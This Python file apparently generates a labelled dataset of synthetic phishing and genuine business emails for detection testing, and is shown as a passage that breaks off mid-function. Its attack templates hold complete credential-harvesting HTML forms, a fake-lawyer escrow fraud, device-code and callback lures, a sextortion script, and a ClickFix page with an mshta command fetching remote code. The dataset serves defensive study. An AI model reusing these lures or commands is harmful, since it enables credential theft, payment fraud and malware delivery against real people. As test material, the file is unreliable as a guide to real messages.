"""English messages: 8 attacks, 8 genuine (mostly the Manchester office)."""
from kit import *
import checks

B = org.BANK
G = checks.group4


def _zoho(rng, t):
    route = R.Service("sender4-op-o%d.zoho.eu" % 12, "sender4-op-o12.zoho.eu", "136.143.169.12",
                      inner="Received: by mx.zoho.eu with SMTPS id %d%06d.%d; {date}" % (int(t.timestamp()), rng.randrange(10 ** 5, 10 ** 6), rng.randrange(10 ** 12, 10 ** 13)),
                      tls="1.3", zone="UTC")
    ua = U.Plain(rng, order=["Date", "From", "To", "Cc", "Message-Id", "In-Reply-To", "References", "Subject", "MIME-Version",
                             "Content-Type", "Importance", "User-Agent"],
                 mailer=("User-Agent", "Zoho Mail"),
                 msgid_fn=lambda r, tt: "<%s.%s.%d@langley-moore-llp.com>" % (hexid(r, 11), hexid(r, 16), r.randrange(10 ** 18, 10 ** 19)),
                 boundary_fn=lambda r, k: "----=_Part_%d_%d.%d" % (r.randrange(10 ** 5, 10 ** 6), r.randrange(10 ** 8, 10 ** 9), int(t.timestamp() * 1000)),
                 extra=[("Importance", "Medium")])
    return route, ua


def _paypal(rng):
    route = R.Service("mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.%d" % rng.choice([225, 226, 227, 228]), tls="1.2")
    return route


# =============================================================== attacks
def a_docusign_html():
    rng = rng_for("a", "en-docusign")
    t = utc("2026-11-03 14:26:51")
    route = R.O365(rng, region="eurprd02")
    ua = U.OutlookExchange(rng, route.fqdn(), lang="en-GB", online=True, org="ashworth-design.co.uk")
    mid = ua.msgid(t, "")
    src = """Hi Oliver,

Please find attached the fully executed lease renewal for Unit 2, 82 King Street, returned via DocuSign for your records.

The document is secured - open the attachment in your browser and confirm your email address to view and download the signed copy.

Kind regards,

Rebecca Ashworth
Director
Ashworth Design Studio
"""
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>DocuSign - Completed Document</title>
<style>body{font-family:Segoe UI,Helvetica,Arial,sans-serif;background:#f2f2f2;margin:0}
.bar{background:#1e1e1e;color:#fff;padding:14px 24px;font-weight:600;letter-spacing:.5px}
.card{max-width:420px;margin:60px auto;background:#fff;padding:32px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.doc{border:1px solid #ddd;padding:12px;margin:0 0 20px 0;font-size:14px}
input{width:100%;padding:10px;margin:6px 0 14px 0;border:1px solid #8a8886;box-sizing:border-box}
button{background:#ffc820;border:0;padding:11px 22px;font-weight:600;cursor:pointer}</style></head>
<body><div class="bar">DocuSign</div>
<div class="card">
<div class="doc"><b>Lease_Renewal_Unit2_82KingStreet_Executed.pdf</b><br>Completed &middot; 3 signatures &middot; 14 pages</div>
<p style="font-size:14px">This document is protected. Verify your identity with your Microsoft 365 account to view the completed envelope.</p>
<form method="post" action="https://secure-docview.ashworth-design-cdn.com/auth/o365/complete.php">
<input type="hidden" name="env" value="3F1C2A9B-77D4-4E0A-9A1B-4471C0D2E6F8">
<label for="e">Email</label><input id="e" name="login" type="email" value="oliver.bennett@example.com">
<label for="p">Password</label><input id="p" name="passwd" type="password" placeholder="Password">
<button type="submit">View document</button>
</form>
<p style="font-size:11px;color:#666">Powered by DocuSign &middot; Microsoft 365 identity verification</p>
</div></body></html>
"""
    att = html_att(page, "Lease_Renewal_82KingSt_Completed.html")
    body = mixed(S.outlook_alt(src, ua.boundary("alt"), "us-ascii", "quoted-printable", "EN-GB"), [att], ua.boundary("mixed"))
    h = {"From": addr("Rebecca Ashworth", "r.ashworth@ashworth-design.co.uk"),
         "To": addr("Oliver Bennett", "oliver.bennett@example.com"),
         "Subject": "Completed: Lease Renewal - Unit 2, 82 King Street, Manchester - signed by all parties"}
    return Mail("attack", "en", "docusign-lease-html-attachment", t, route, ua, "oliver.bennett@example.com",
                "r.ashworth@ashworth-design.co.uk", h, body, mid, zone="UTC", date_lag=-3,
                technique="HTML attachment credential phishing (DocuSign/Microsoft 365 lure) from a compromised business mailbox",
                what="'Completed DocuSign' lease renewal with an HTML attachment that asks for the Microsoft 365 password",
                why="The design studio that refurbished the studio has nothing to do with the lease (the landlord's agent is Bridgewater, see business/09); "
                    "the .html attachment is a fake DocuSign/Microsoft log-in form pre-filled with the recipient and posting to ashworth-design-cdn.com; "
                    "genuine tenant and Exchange Online path make it pass sender checks.")


def a_voicemail_svg():
    rng = rng_for("a", "en-svg")
    t = utc("2026-11-05 10:03:17")
    route = R.Mailgun(rng)
    mg = "mg.cloudvoice-notify.com"
    ua = U.Plain(rng, order=["Mime-Version", "Content-Type", "Subject", "From", "To", "Date", "Message-Id", "X-Mailgun-Sid", "Sender"],
                 msgid_fn=lambda r, tt: "<%s.%s@%s>" % (tt.strftime("%Y%m%d%H%M%S"), hexid(r, 16), mg),
                 boundary_fn=lambda r, k: hexid(r, 64),
                 extra=[("X-Mailgun-Sid", "WyI%s" % alnum(rng, 60, U.B64)), ("Sender", "voicemail@%s" % mg)])
    mid = ua.msgid(t, "")
    url = "https://pub-7a3f9c2e81d44b0fa6e5c1d2b3a49f80.r2.dev/vm/index.html#" + b64url("priya.shah@example.com")
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="280" viewBox="0 0 640 280">
  <rect width="640" height="280" fill="#f3f6fb"/>
  <rect x="0" y="0" width="640" height="56" fill="#0f6cbd"/>
  <text x="24" y="36" font-family="Segoe UI, Arial, sans-serif" font-size="20" fill="#ffffff">Microsoft Teams Voicemail</text>
  <text x="24" y="100" font-family="Segoe UI, Arial, sans-serif" font-size="18" fill="#1f2937">New voice message for Priya Shah</text>
  <text x="24" y="130" font-family="Segoe UI, Arial, sans-serif" font-size="14" fill="#4b5563">From: +44 161 496 0731   Duration: 00:48   Received: 05/11/2026 10:01</text>
  <a xlink:href="%s" href="%s" target="_blank">
    <rect x="24" y="160" width="240" height="52" rx="6" fill="#0f6cbd"/>
    <text x="58" y="193" font-family="Segoe UI, Arial, sans-serif" font-size="17" fill="#ffffff">&#9654; Play voice message</text>
  </a>
  <text x="24" y="250" font-family="Segoe UI, Arial, sans-serif" font-size="11" fill="#6b7280">Sign in with your work account to listen. Message expires in 24 hours.</text>
</svg>
""" % (url, url)
    fname = "VM_+441614960731_Priya.Shah_0048.svg"
    html = S.esp_html("You have a new voice message", ["Caller: +44 161 496 0731", "Duration: 00:48",
                                                        "The audio message is attached to this email. Open the attachment to listen."],
                      None, "Microsoft Teams Phone System - automated message", brand_color="#0f6cbd", logo_text="Voicemail")
    txt = S.esp_plain("You have a new voice message", ["Caller: +44 161 496 0731", "Duration: 00:48",
                                                       "The audio message is attached to this email. Open the attachment to listen."])
    alt = S.alt(txt, html, ua.boundary(), "utf-8", "quoted-printable", "quoted-printable", quote_charset=False)
    body = mixed(alt, [svg_att(svg, fname)], ua.boundary())
    h = {"Subject": hval("\U0001F50A New voicemail from +44 161 496 0731 (00:48) for Priya Shah", "utf-8", "B"),
         "From": addr("Voice Message Service", "voicemail@%s" % mg),
         "To": addr("Priya Shah", "priya.shah@example.com")}
    env = "bounce+%s.%s-priya.shah=example.com@%s" % (hexid(rng, 6), hexid(rng, 6), mg)
    return Mail("attack", "en", "voicemail-svg-attachment", t, route, ua, "priya.shah@example.com", env, h, body, mid, zone="UTC", date_lag=-1,
                technique="SVG attachment phishing (fake Teams voicemail) via Mailgun",
                what="'Teams voicemail' notification whose SVG attachment shows a Play button linking to a log-in page",
                why="Company uses no voicemail-to-mail service from cloudvoice-notify.com; sent through Mailgun; the SVG image carries a link to a Cloudflare R2 bucket "
                    "with the victim's address in the URL fragment (credential-harvest kit); SVG is a common filter-evasion carrier.")


def a_hmrc_vat():
    rng = rng_for("a", "en-hmrc")
    t = utc("2026-11-09 07:45:02")
    route = R.Brevo(rng)
    ua = U.Plain(rng, order=["Content-Type", "MIME-Version", "From", "To", "Subject", "Reply-To", "Message-Id", "Date", "X-Mailin-EID", "Origin-messageId"],
                 msgid_fn=lambda r, tt: "<%s.%d@smtp-relay.mailin.fr>" % (tt.strftime("%Y%m%d%H%M"), r.randrange(10 ** 10, 10 ** 11)),
                 boundary_fn=lambda r, k: "----=_NextPart_%s" % hexid(r, 24),
                 extra=[("X-Mailin-EID", alnum(rng, 40, U.B64) + "%3A" + "priya.shah@example.com".replace("@", "%40")),
                        ("Origin-messageId", "<%s@smtp-relay.mailin.fr>" % hexid(rng, 24))])
    mid = ua.msgid(t, "")
    link = "https://4kq7m.r.sp1-brevo.net/mk/cl/f/sh/%s/%s" % (alnum(rng, 40, U.B64), alnum(rng, 16, U.B64))
    vat = org.TAX["eg_uk_vat"].replace("GB ", "")
    blocks = ["Dear Example Group UK Ltd,",
              "We have reviewed the VAT Return submitted for VAT registration number %s %s %s for the period 07 26 (1 July to 30 September 2026) through your Making Tax Digital compatible software." % (vat[:3], vat[3:7], vat[7:]),
              "Our records show a difference of **£3,412.60** between the net VAT declared and the payment received. To avoid late payment penalties and interest being charged from 15 November 2026, please sign in to your business tax account and review the calculation.",
              "If you have already resolved this, you do not need to do anything."]
    footer = "HM Revenue and Customs\nThis is an automated email - please do not reply."
    html = S.esp_html("Your VAT Return: action needed", blocks, ("Sign in to your business tax account", link), footer,
                      brand_color="#0b0c0c", logo_text="GOV.UK")
    txt = S.esp_plain("Your VAT Return: action needed", blocks, ("Sign in to your business tax account", link), footer)
    body = S.alt(txt, html, ua.boundary(), "utf-8", "quoted-printable", "quoted-printable", quote_charset=False)
    h = {"From": addr("HMRC", "no-reply@hmrc-mtd-vat.co.uk"), "To": "priya.shah@example.com",
         "Subject": "VAT return 07 26: difference identified - action required by 14 November 2026",
         "Reply-To": "no-reply@hmrc-mtd-vat.co.uk"}
    env = "bounces-%d-%s@bounces.sendibm1.com" % (rng.randrange(10 ** 6, 10 ** 7), hexid(rng, 12))
    return Mail("attack", "en", "hmrc-vat-discrepancy-phishing", t, route, ua, "priya.shah@example.com", env, h, body, mid, zone="UTC", date_lag=-1,
                technique="Tax-office credential phishing (HMRC / Making Tax Digital) via Brevo",
                what="Fake HMRC notice of a £3,412.60 VAT difference with a sign-in button",
                why="HMRC does not e-mail sign-in links for VAT discrepancies; sender domain hmrc-mtd-vat.co.uk is not gov.uk; Brevo click-tracking redirect hides the target; "
                    "penalty deadline. The real VAT return was filed and paid correctly (business/14).")


def a_fake_lawyer():
    rng = rng_for("a", "en-lawyer")
    t = utc("2026-10-14 11:22:40")
    route, ua = _zoho(rng, t)
    mid = ua.msgid(t, "")
    name, bic, iban = B["lawyer_fraud"]
    src = """Dear Ms Weiß,

Further to Mr Köhler's instructions this morning, I am writing in connection with Project Adler. Our firm acts for Example Group GmbH on the proposed acquisition of the VitalFit studio portfolio in Austria.

Under the heads of terms agreed with the vendor, a refundable exclusivity deposit of EUR 487,500.00 must be placed in our client escrow account ahead of signing on Friday. The funds will be held in escrow and either credited against the purchase price at completion or returned in full.

Please arrange a same-day SEPA Instant transfer to:

Account name: Langley & Moore LLP - Client Escrow
Bank: %s (our EU settlement bank)
IBAN: %s
BIC: %s
Reference: ADLER-EG-2026-10

Given the regulatory sensitivity (the vendor's parent company is listed in Vienna), the matter is subject to an insider list. Please do not discuss it with colleagues until the public announcement; Mr Köhler has asked that all correspondence go through me.

Kindly confirm once the transfer has been initiated and send me the payment confirmation so that I can notify the vendor's counsel before close of business.

Kind regards,

Edward Langley
Partner, Corporate & M&A
Langley & Moore LLP
30 St Mary Axe, London EC3A 8BF
T +44 20 7946 0183
""" % (name, G(iban), bic)
    pdfp = ["##Langley & Moore LLP", "30 St Mary Axe, London EC3A 8BF", "", "**PRIVILEGED & CONFIDENTIAL - PROJECT ADLER",
            "Escrow deposit instructions", "", "Client: Example Group GmbH, Köln", "Matter: Acquisition of VitalFit studio portfolio (AT)",
            "Amount: EUR 487,500.00 (refundable exclusivity deposit)", "", "Beneficiary: Langley & Moore LLP - Client Escrow",
            "Bank: %s" % name, "IBAN: %s" % G(iban), "BIC: %s" % bic, "Reference: ADLER-EG-2026-10", "",
            "Funds are held in escrow pending completion and are subject to the firm's client account rules.",
            "Authorised by: E. Langley, Partner"]
    att = pdf_att([pdfp], "Project_Adler_Escrow_Instructions.pdf", title="Project Adler", author="E. Langley",
                  producer="Microsoft® Word for Microsoft 365", creator="Microsoft® Word for Microsoft 365", created="D:20261014120512+01'00'")
    body = mixed(M.text(src, "plain", "UTF-8", "quoted-printable"), [att], ua.boundary())
    h = {"From": addr("Edward Langley", "e.langley@langley-moore-llp.com"),
         "To": addr("Sabine Weiß", "sabine.weiss@example.com", "UTF-8"),
         "Subject": "Project Adler - escrow deposit (strictly confidential)"}
    return Mail("attack", "en", "fake-lawyer-escrow-project-adler", t, route, ua, "sabine.weiss@example.com",
                "e.langley@langley-moore-llp.com", h, body, mid, zone="UTC", date_lag=-5,
                technique="Fake lawyer (second stage of CEO fraud), Zoho Mail",
                what="'London M&A partner' asks the CFO for a EUR 487,500 same-day escrow deposit to a Lithuanian payment institution",
                why="Follows the fake CEO mail attack/01 ('Project Adler'); the firm is unknown, on a free Zoho account with a fresh domain; an English law firm's client "
                    "account at a Lithuanian e-money institution; same-day instant transfer, insider-list secrecy, 'all correspondence through me'.")


def a_device_code():
    rng = rng_for("a", "en-devicecode")
    t = utc("2026-11-17 12:58:09")
    route = R.O365(rng, region="eurprd05")
    ua = U.OutlookExchange(rng, route.fqdn(), lang="en-GB", online=True, org="harwood-fm.co.uk")
    mid = ua.msgid(t, "")
    src = """Hi Oliver,

Thanks for the proposal for the 2027 corporate memberships - the board liked the tiered pricing. Our procurement lead, Claire, would like to go through the numbers with you on a quick Teams call this afternoon before she signs off.

As our tenant restricts external guests, Microsoft has to authorise your device for our secure meeting room first:

1. Go to [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin)
2. Enter the code: HQ7KXM2PL
3. Sign in with your work account when prompted - the meeting then opens automatically.

The code is only valid for 15 minutes, so if it has expired just let me know and I'll send you a fresh one.

Cheers,

Mark Ellison
Head of Facilities | Harwood Facilities Management Ltd
Unit 4, Adelphi Wharf, Salford M3 6BH | 0161 496 0522
"""
    body = S.outlook_alt(src, ua.boundary("alt"), "us-ascii", "quoted-printable", "EN-GB")
    h = {"From": addr("Mark Ellison", "m.ellison@harwood-fm.co.uk"),
         "To": addr("Oliver Bennett", "oliver.bennett@example.com"),
         "Subject": "RE: Corporate membership 2027 - quick Teams call today?"}
    return Mail("attack", "en", "device-code-teams-harwood", t, route, ua, "oliver.bennett@example.com",
                "m.ellison@harwood-fm.co.uk", h, body, mid, zone="UTC", date_lag=-3,
                technique="Device-code phishing (OAuth device authorization grant) from a compromised customer mailbox",
                what="A real corporate customer 'invites' to a Teams call and asks to enter a code at microsoft.com/devicelogin",
                why="Entering an attacker-generated device code at the genuine Microsoft page grants the attacker tokens for the victim's account (Storm-2372 pattern); "
                    "Teams meetings never require device codes; sent from the customer's genuinely compromised Microsoft 365 mailbox, so the link and sender look clean.")


def a_clickfix():
    rng = rng_for("a", "en-clickfix")
    t = utc("2026-11-24 16:40:55")
    route = R.SendGrid(rng)
    uid = rng.randrange(10000000, 49999999)
    ua = U.Plain(rng, order=["Content-Type", "Date", "From", "Mime-Version", "Message-ID", "Subject", "X-SG-EID", "X-SG-ID", "To", "X-Entity-ID"],
                 msgid_fn=lambda r, tt: "<%s@%s>" % (route.sgid, route.pod),
                 boundary_fn=lambda r, k: hexid(r, 64),
                 extra=[("X-SG-EID", "u001." + alnum(rng, 120, U.B64 + "+/")), ("X-SG-ID", "u001." + alnum(rng, 80, U.B64 + "+/")),
                        ("X-Entity-ID", "u001." + alnum(rng, 24, U.B64 + "+/") + "==")])
    mid = ua.msgid(t, "")
    blocks = ["Hello Example Fitness Manchester,",
              "A customer has posted a **1-star review** on your Business Profile **Example Fitness Manchester - King Street**. The review mentions unsafe equipment and has been flagged for priority handling.",
              "Business owners have 48 hours to respond or request a review. After this period the review and its rating are published permanently.",
              "To protect your profile, the response portal is attached to this message. Open the attached file and complete the verification to respond."]
    html = S.esp_html("New review requires your response", blocks, None,
                      "Google Business Profile Support - this message was sent to oliver.bennett@example.com", brand_color="#1a73e8",
                      logo_text="Google Business Profile")
    txt = S.esp_plain("New review requires your response", blocks, None, "Google Business Profile Support")
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>reCAPTCHA verification - Business Profile</title>
<style>body{font-family:Roboto,Arial,sans-serif;background:#f8f9fa;margin:0}
.box{max-width:460px;margin:80px auto;background:#fff;border:1px solid #d3d3d3;border-radius:3px;padding:24px}
.chk{display:flex;align-items:center;border:1px solid #d3d3d3;background:#f9f9f9;padding:14px}
.sq{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;margin-right:12px}
ol{font-size:15px;line-height:26px} kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}
textarea{width:100%;height:54px;font-size:11px;color:#555;border:1px solid #ddd}</style></head>
<body><div class="box">
<div class="chk"><div class="sq"></div><div>I'm not a robot</div><div style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Privacy - Terms</div></div>
<h3 style="font-weight:500">Verification steps</h3>
<p style="font-size:14px">We detected unusual traffic from your network. To open the review response portal, complete the human verification:</p>
<ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<p style="font-size:12px;color:#555">Verification code copied to your clipboard:</p>
<textarea readonly>mshta https://gbp-verify-cdn.com/captcha/v?ray=8f2a1c9d4471 # I am not a robot - reCAPTCHA Verification ID: 4471</textarea>
</div></body></html>
"""
    alt = S.alt(txt, html, ua.boundary(), "utf-8", "quoted-printable", "quoted-printable", quote_charset=False)
    body = mixed(alt, [html_att(page, "GBP_Review_Response_Portal.html")], ua.boundary())
    h = {"From": addr("Google Business Profile", "review-alerts@gbp-notification.com"),
         "To": "oliver.bennett@example.com",
         "Subject": "New 1-star review on Example Fitness Manchester - response required within 48 hours"}
    env = "bounces+%d-%s-oliver.bennett=example.com@em%d.gbp-notification.com" % (uid, hexid(rng, 4), rng.randrange(1000, 9999))
    return Mail("attack", "en", "clickfix-google-review-html", t, route, ua, "oliver.bennett@example.com", env, h, body, mid, zone="UTC", date_lag=-1,
                technique="ClickFix (fake CAPTCHA: Win+R, paste, Enter) in an HTML attachment, via SendGrid",
                what="Fake Google Business Profile alert about a 1-star review; attached 'portal' is a fake reCAPTCHA asking to paste a command into Win+R",
                why="Sender domain gbp-notification.com is not google.com; the HTML attachment instructs the user to run an mshta command fetching a remote HTA "
                    "(shown inline here - the real page copies it to the clipboard with script; this copy has no script); deadline pressure. "
                    "Genuine review notice: business/12.")


def a_paypal_callback():
    rng = rng_for("a", "en-paypal-toad")
    t = utc("2026-12-01 09:14:27")
    route = _paypal(rng)
    inv = "INV2-%s-%s-%s-%s" % tuple(alnum(rng, 4, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(4))
    ua = U.Plain(rng, order=["Date", "Message-ID", "X-PP-REQUESTED-TIME", "X-PP-Email-transmission-Id", "PP-Correlation-Id",
                             "Subject", "X-MaxCode-Template", "To", "From", "X-Email-Type-Id", "MIME-Version", "Content-Type"],
                 msgid_fn=lambda r, tt: "<%s.%d.%d@paypal.com>" % (hexid(r, 13), int(tt.timestamp()), r.randrange(10 ** 5, 10 ** 6)),
                 boundary_fn=lambda r, k: "--%s-%s" % (hexid(r, 12), hexid(r, 8)),
                 extra=[("X-PP-REQUESTED-TIME", str(int(t.timestamp() * 1000) - 2100)), ("X-PP-Email-transmission-Id", uuid4(rng)),
                        ("PP-Correlation-Id", hexid(rng, 13)), ("X-MaxCode-Template", "PPC001125"), ("X-Email-Type-Id", "PPC001125")])
    mid = ua.msgid(t, "")
    link = "https://www.paypal.com/invoice/p/#%s" % inv.replace("-", "")
    note = ("Your Gym Management Suite annual licence (12 sites) has been renewed for £589.99. The amount will be collected automatically from your PayPal balance. "
            "If you did not authorise this renewal, call our billing department on +44 20 3885 0791 within 24 hours to cancel and receive a full refund.")
    blocks = ["Hello, Example Group UK Ltd",
              "**GMS Billing Services** sent you an invoice for **£589.99 GBP**",
              "Due on receipt",
              "Invoice number: 0047-1126\nSeller note: " + note]
    html = S.esp_html("Here's your invoice", blocks, ("View and Pay Invoice", link),
                      "Don't recognise this invoice? Report this invoice.\nPayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.\n"
                      "Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.",
                      brand_color="#003087", logo_text="PayPal")
    txt = S.esp_plain("Here's your invoice", blocks, ("View and Pay Invoice", link), "PayPal (Europe) S.à r.l. et Cie, S.C.A.")
    body = S.alt(txt, html, ua.boundary(), "UTF-8", "quoted-printable", "quoted-printable")
    h = {"Subject": "Invoice from GMS Billing Services (0047-1126)", "To": "priya.shah@example.com",
         "From": addr("service@paypal.co.uk", "service@paypal.co.uk")}
    return Mail("attack", "en", "paypal-invoice-callback-number", t, route, ua, "priya.shah@example.com", "service@paypal.co.uk",
                h, body, mid, zone="PT", date_lag=-2,
                technique="Callback phishing (TOAD) abusing a genuine PayPal invoice",
                what="Real PayPal invoice created by a scammer; the seller note says a £589.99 licence was renewed and to call a number to cancel",
                why="Sent by PayPal's own infrastructure, so every sender check passes; the 'seller' is unknown and there is no such licence; "
                    "the only call to action is a phone number (support-scam / remote-access call-centre). Genuine PayPal receipt: business/15.")


def a_sextortion():
    rng = rng_for("a", "en-sextortion")
    t = utc("2026-11-28 03:17:44")
    route = R.Direct("DESKTOP-7HQ2L0M", "201-43-118-77.dsl.telesp.net.br", "201.43.118.77")
    ua = U.Plain(rng, order=["From", "To", "Subject", "Date", "MIME-Version", "Content-Type", "Message-ID", "X-Mailer", "X-Priority"],
                 mailer=("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"),
                 msgid_fn=lambda r, tt: "<%s$%s@%s>" % (hexid(r, 8, True), hexid(r, 10, True), "example.com"),
                 extra=[("X-Priority", "3")])
    mid = ua.msgid(t, "")
    btc = org.BTC["sextortion"]
    src = """Hello Oliver,

I'll get straight to the point. A few months ago I got access to your devices through a vulnerability in your router and installed a remote access tool. Your old password (Manchester2019!) turned up in a leak, which I used to make sure it really is you.

Since then I have been watching your activity. I have copies of your contacts, your chats and recordings from your webcam that you would not want your colleagues at Example Group or your family to see.

Here is my offer. Transfer 1350 USD in Bitcoin to this wallet:

%s

(If you don't know how: buy Bitcoin on Coinbase, Revolut or any exchange and send it to the address above. Copy and paste it exactly.)

You have 48 hours from the moment you open this email - I will know when you read it. Once the payment arrives I delete everything and you will never hear from me again. If I don't receive it, every contact in your address book gets the recordings.

Don't reply, this message was sent from your own account as you can see. Don't contact the police, I'll know.
""" % btc
    body = M.text(src, "plain", "utf-8", "base64")
    h = {"From": "oliver.bennett@example.com", "To": "oliver.bennett@example.com",
         "Subject": "Oliver Bennett - your account has been compromised"}
    return Mail("attack", "en", "sextortion-bitcoin-spoofed-self", t, route, ua, "oliver.bennett@example.com",
                "oliver.bennett@example.com", h, body, mid, zone="-03", date_lag=-30,
                technique="Extortion (sextortion) with Bitcoin address, spoofing the recipient's own address",
                what="Claims to have hacked the recipient's devices and demands 1350 USD in Bitcoin within 48 hours",
                why="From and To are the recipient himself, but the message came straight from a Brazilian DSL host (HELO DESKTOP-…, no TLS), not via mail-int01; "
                    "a fake 'Outlook Express' mailer; classic extortion script with an old leaked password and a valid bech32 BTC address.")


# =============================================================== genuine
def b_docusign():
    rng = rng_for("b", "en-docusign")
    t = utc("2026-11-02 11:31:05")
    route = R.Service("mailsea.docusign.net", "mailsea.docusign.net", "64.207.219.%d" % rng.choice([135, 136, 137]), tls="1.2", zone="PT",
                      inner="Received: from docusign.net (unknown [10.180.%d.%d])\n\tby mailsea.docusign.net (Postfix) with ESMTP id {id}\n\tfor <{rcpt}>; {date}" % (rng.randrange(1, 250), rng.randrange(1, 250)))
    env = uuid4(rng)
    ua = U.Plain(rng, order=["To", "From", "Reply-To", "Date", "Subject", "Message-ID", "MIME-Version", "Content-Type", "X-Api-Host", "X-MessageID"],
                 msgid_fn=lambda r, tt: "<%s@docusign.net>" % hexid(r, 32),
                 boundary_fn=lambda r, k: "----=_NextPart_%s" % uuid4(r),
                 extra=[("X-Api-Host", "na4.docusign.net"), ("X-MessageID", uuid4(rng))])
    mid = ua.msgid(t, "")
    code = hexid(rng, 32, True) + "4"
    link = "https://na4.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (env, uuid4(rng), uuid4(rng))
    blocks = ["**Hannah Lloyd** sent you a document to review and sign.",
              "Hannah Lloyd\n[h.lloyd@bridgewater-pm.co.uk](mailto:h.lloyd@bridgewater-pm.co.uk)",
              "Hi Oliver,\nAs discussed, please find the lease renewal for Unit 2, 82 King Street for signature. The rent review figures are as agreed in our meeting on 21 October; the break clause is now at year 5.\nKind regards,\nHannah"]
    after = ["**Do Not Share This Email**\nThis email contains a secure link to Docusign. Please do not share this email, link, or access code with others.",
             "**Alternate Signing Method**\nVisit Docusign.com, click 'Access Documents', and enter the security code:\n%s" % code,
             "**About Docusign**\nSign documents electronically in just minutes. It's safe, secure, and legally binding."]
    html = S.esp_html("Please DocuSign: Lease Renewal - Unit 2, 82 King Street", blocks, ("REVIEW DOCUMENT", link),
                      "This message was sent to you by Hannah Lloyd who is using the Docusign Electronic Signature Service.", brand_color="#ffc820",
                      logo_text="Docusign", after=after)
    txt = S.esp_plain("Please DocuSign: Lease Renewal - Unit 2, 82 King Street", blocks + after, ("REVIEW DOCUMENT", link))
    body = S.alt(txt, html, ua.boundary(), "utf-8", "quoted-printable", "quoted-printable")
    h = {"To": addr("Oliver Bennett", "oliver.bennett@example.com"),
         "From": addr("Hannah Lloyd via Docusign", "dse_NA4@docusign.net"),
         "Reply-To": addr("Hannah Lloyd", "h.lloyd@bridgewater-pm.co.uk"),
         "Subject": "Complete with Docusign: Lease Renewal - Unit 2, 82 King Street - Example Group UK Ltd.pdf"}
    return Mail("business", "en", "docusign-lease-renewal", t, route, ua, "oliver.bennett@example.com", "dse_NA4@docusign.net",
                h, body, mid, zone="PT", date_lag=-2, pair="attack/09",
                what="Genuine DocuSign envelope from the landlord's agent for the Manchester lease renewal",
                why="DocuSign's own sender and infrastructure, Reply-To the known agent, link to na4.docusign.net, security code, content matches an agreed meeting. "
                    "Hard negative of attack/09.")


def b_microsoft_signin():
    rng = rng_for("b", "en-ms")
    t = utc("2026-11-16 20:19:33")
    route = R.Service("mail-dm6nam10on2071.outbound.protection.outlook.com", "mail-dm6nam10on2071.outbound.protection.outlook.com",
                      "40.107.93.71", tls="1.2", zone="UTC",
                      inner="Received: from BN9PR03CA0412.namprd03.prod.outlook.com (2603:10b6:408:111::27) by\n SA1PR11MB8476.namprd11.prod.outlook.com (2603:10b6:806:3a8::9) with Microsoft SMTP\n Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n 15.20.9182.14; {date}")
    ua = U.Plain(rng, order=["From", "Date", "Subject", "Message-ID", "MIME-Version", "To", "Content-Type", "X-MS-Exchange-Organization-SCL"],
                 msgid_fn=lambda r, tt: "<%s.%s@ccm27>" % (alnum(r, 12, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"), alnum(r, 13, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")),
                 boundary_fn=lambda r, k: "--boundary_%d_%s" % (r.randrange(100, 999), uuid4(r)))
    mid = ua.msgid(t, "")
    blocks = ["We detected something unusual about a recent sign-in to the Microsoft account ma*****@example.com.",
              "**Sign-in details**\nCountry/region: Germany\nIP address: 93.240.117.204\nDate: 16/11/2026 20:14 (GMT)\nPlatform: Windows\nBrowser: Edge",
              "Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.",
              "To opt out or change where you receive security notifications, [click here](https://account.live.com/SecurityNotifications/Update).",
              "Thanks,\nThe Microsoft account team"]
    html = S.esp_html("Unusual sign-in activity", blocks, ("Review recent activity", "https://account.live.com/Activity"),
                      "Privacy Statement\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052", brand_color="#2672ec", logo_text="Microsoft account")
    txt = S.esp_plain("Unusual sign-in activity", blocks, ("Review recent activity", "https://account.live.com/Activity"))
    body = S.alt(txt, html, ua.boundary(), "utf-8", "quoted-printable", "quoted-printable")
    h = {"From": addr("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
         "Subject": "Microsoft account unusual sign-in activity", "To": "markus.lehmann@example.com"}
    return Mail("business", "en", "microsoft-account-unusual-signin", t, route, ua, "markus.lehmann@example.com",
                "account-security-noreply@accountprotection.microsoft.com", h, body, mid, zone="UTC", date_lag=-4, pair="attack/13",
                what="Microsoft account 'unusual sign-in activity' notice for the IT head's Microsoft account",
                why="Real accountprotection.microsoft.com sender via Microsoft's outbound servers; links only to account.live.com; the sign-in came from a German IP "
                    "(the IT head at home). Security-alert wording - hard negative of attack/13 and other Microsoft lures.")


def b_github_reset():
    rng = rng_for("b", "en-github")
    t = utc("2026-10-19 07:02:38")
    route = R.Service("out-21.smtp.github.com", "out-21.smtp.github.com", "192.30.252.204", tls="1.3", zone="PT",
                      inner="Received: from github.com (hubbernetes-node-%s.ash1-iad.github.net [10.56.%d.%d])\n\tby smtp.github.com (Postfix) with ESMTPA id {id}\n\tfor <{rcpt}>; {date}" % (hexid(rng, 5), rng.randrange(1, 250), rng.randrange(1, 250)))
